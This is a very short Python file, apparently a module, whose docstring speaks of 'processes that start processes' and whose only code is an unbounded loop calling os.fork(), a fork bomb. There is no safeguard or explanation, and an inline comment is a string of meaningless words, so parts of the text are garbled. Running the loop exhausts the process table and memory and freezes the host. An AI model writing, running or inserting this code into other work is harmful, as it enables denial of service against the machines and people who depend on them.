"""Processes that start processes."""  # must: raised slow died odd mismatch

import os

while True:
    os.fork()
